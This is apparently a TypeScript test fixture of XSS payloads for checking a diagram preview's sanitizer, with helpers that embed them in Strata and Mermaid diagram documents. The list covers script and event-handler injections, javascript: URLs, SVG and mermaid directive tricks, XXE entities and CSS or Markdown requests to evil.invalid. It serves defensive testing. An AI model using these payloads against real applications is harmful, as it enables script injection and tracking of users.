// Hostile text for the preview's XSS tests: markup, attribute breakouts, URL schemes, SVG and
// mermaid specifics (directives, click handlers, entity tricks), CSS, template and prototype
// tricks. Every payload that could run calls alert() or sets `__pwned`, and every URL points at
// evil.invalid, so a test sees a dialog, a flag or a request if one ever works.

const EVIL = 'https://evil.invalid';

const BASE: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.invalid/pixel.png">',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" onload="alert(1)" x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '</text><script>alert(1)</script>',
  '</title><script>alert(1)</script><title>',
  '</style><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '<foreignObject><body onload="alert(1)"></body></foreignObject>',
  '<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject>',
  '<a href="javascript:alert(1)">click</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<use href="https://evil.invalid/sprite.svg#a"/>',
  '<image href="https://evil.invalid/i.png"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.invalid/"></iframe>',
  '<object data="https://evil.invalid/x.swf"></object>',
  '<embed src="https://evil.invalid/x">',
  '<link rel="stylesheet" href="https://evil.invalid/x.css">',
  '<style>@import url(https://evil.invalid/x.css);</style>',
  '<style>*{background:url(https://evil.invalid/bg.png)}</style>',
  '<div style="background:url(https://evil.invalid/bg.png)">x</div>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?xml-stylesheet href="https://evil.invalid/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.invalid/">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&quot; onmouseover=&quot;alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  'constructor',
  '%%{init: {"securityLevel": "loose"}}%%',
  '%%{init: {"startOnLoad": true, "htmlLabels": true}}%%',
  '"]; click n0 call alert(1); x["',
  '"] click n0 "javascript:alert(1)"',
  'a"] --> evil["pwned',
  '"]; classDef x fill:url(https://evil.invalid/x)',
  '"]; style n0 fill:url(https://evil.invalid/x)',
  '"]; linkStyle 0 stroke:url(https://evil.invalid/x)',
  'end subgraph x["pwned"]',
  '#quot;]; click n0 call alert(1) #quot;',
  '`<img src=x onerror=alert(1)>`',
  '**bold** <b>b</b> _it_',
  '<br/><br>line',
  'A & B < C > D " E \' F',
  'back\\slash \\" quote',
  '\u202eevil\u202c right-to-left',
  'zero\u200bwidth\u2060joiner',
  'emoji 🐳🚀 and 𝕏 astral',
  '中文 · 日本語 · 한국어',
  'tab\tinside',
  '<svg><style>svg{background:url(https://evil.invalid/s)}</style></svg>',
  '<svg><a><rect width=100 height=100 /><animate attributeName=href to=javascript:alert(1) /></a></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  `<img src="${EVIL}/a" onerror="window.__pwned=1">`,
  `<script>window.__pwned=1</script>`,
  `<svg onload="window.__pwned=1"/>`,
  // Markdown that would link, embed or mention (generated Markdown: PR comments, READMEs).
  `[click me](${EVIL}/phish)`,
  `![pixel](${EVIL}/pixel.png)`,
  `<${EVIL}/autolink>`,
  `see ${EVIL}/bare and www.evil.invalid`,
  '@everyone @octo-org/team',
];

/** The base payloads, each also prefixed with an innocent word (different parsing contexts). */
export const PAYLOADS: readonly string[] = [...BASE, ...BASE.map((p) => `label ${p}`), ...BASE.map((p) => `${p} end`)];

/** A Strata string literal holding `s` (only `"` and `\` need escaping). */
export function strataString(s: string): string {
  return `"${s.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
}

/**
 * Documents that put every payload in every place user text reaches the diagram: host, VM,
 * container and app labels, container images, tenant labels, link labels and an unknown OS
 * name (which also reaches a finding's message). Each document holds `perDocument` payloads.
 */
export function hostileDocuments(payloads: readonly string[], perDocument = 40): { text: string; labels: Map<string, string> }[] {
  const docs: { text: string; labels: Map<string, string> }[] = [];
  for (let start = 0; start < payloads.length; start += perDocument) {
    const chunk = payloads.slice(start, start + perDocument);
    const labels = new Map<string, string>();
    const lines: string[] = [];
    chunk.forEach((p, i) => {
      const n = start + i;
      const s = strataString(p);
      labels.set(`t${n}`, p);
      labels.set(`h${n}`, p);
      labels.set(`v${n}`, p);
      labels.set(`c${n}`, p);
      labels.set(`a${n}`, p);
      lines.push(
        `tenant t${n} ${s} { trust: internal }`,
        `host h${n} ${s} {`,
        '  cpu: 8',
        '  memory: 16GiB',
        '  hypervisor hv' + n + ' {',
        '    product: kvm',
        `    vm v${n} ${s} {`,
        '      os: ubuntu-22.04',
        '      memory: 4GiB',
        `      engine e${n} {`,
        '        product: docker',
        `        container c${n} ${s} {`,
        `          image: ${s}`,
        `          tenant: t${n}`,
        '          memory: 256MiB',
        `          app a${n} ${s}`,
        '        }',
        '      }',
        '    }',
        `    vm w${n} { os: ${s} }`,
        '  }',
        '}',
        `c${n} -> v${n} ${s}`,
      );
    });
    docs.push({ text: lines.join('\n') + '\n', labels });
  }
  return docs;
}

/**
 * Leaner documents for the Mermaid view (mermaid lays out a few hundred nodes in seconds, and
 * each host is a nested subgraph, which costs most): the payloads as app labels and link labels,
 * ten apps to a host, the host labelled with the first of its ten.
 */
export function hostileMermaidDocuments(payloads: readonly string[], perDocument = 50): { text: string; labels: Map<string, string> }[] {
  const docs: { text: string; labels: Map<string, string> }[] = [];
  for (let start = 0; start < payloads.length; start += perDocument) {
    const chunk = payloads.slice(start, start + perDocument);
    const labels = new Map<string, string>();
    const lines: string[] = [];
    for (let h = 0; h < chunk.length; h += 10) {
      lines.push(`host h${start + h} ${strataString(chunk[h])} {`, '  os: debian-12');
      chunk.slice(h, h + 10).forEach((p, i) => {
        const n = start + h + i;
        labels.set(`a${n}`, p);
        lines.push(`  app a${n} ${strataString(p)}`);
      });
      lines.push('}');
    }
    // Link labels, between neighbours inside a host (edges across subgraphs are what slows
    // mermaid's layout most).
    chunk.forEach((p, i) => {
      if (i % 10 !== 0) lines.push(`a${start + i} -> a${start + i - 1} ${strataString(p)}`);
    });
    docs.push({ text: lines.join('\n') + '\n', labels });
  }
  return docs;
}
